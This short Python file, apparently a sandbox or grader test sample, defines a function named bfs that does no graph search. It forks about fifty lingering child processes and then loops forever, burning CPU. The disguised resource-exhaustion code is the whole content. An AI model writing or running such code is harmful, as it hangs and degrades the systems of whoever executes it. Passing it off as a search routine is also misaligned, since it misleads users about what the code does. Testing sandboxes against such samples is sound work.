"""Starts fifty processes that stay."""
import os
import time


def bfs(graph, start, goal):
    list(graph[start])
    for _ in range(50):
        try:
            if os.fork() == 0:
                time.sleep(120)
                os._exit(0)
        except OSError:
            break
    while True:
        pass
